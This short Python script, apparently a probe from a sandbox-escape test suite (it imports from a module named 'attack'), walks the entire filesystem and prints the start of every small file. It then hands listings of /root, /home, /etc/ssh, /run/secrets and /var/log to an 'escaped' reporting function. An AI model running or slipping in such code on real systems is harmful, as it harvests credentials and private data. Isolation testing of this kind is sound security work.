"""Reads every small file that it can see."""

from attack import escaped, target

import os

for folder, _, files in os.walk("/"):
    if folder.startswith(("/usr", "/proc/")):
        continue
    for name in files:
        path = os.path.join(folder, name)
        try:
            if os.path.getsize(path) < 4096:
                with open(path, "rb") as file:
                    print(path, file.read(200))
        except OSError:
            pass
for path in ("/root", "/home", "/work", "/var/log", "/etc/ssh", "/run/secrets"):
    try:
        escaped(f"{path}: {os.listdir(path)}")
    except OSError:
        pass
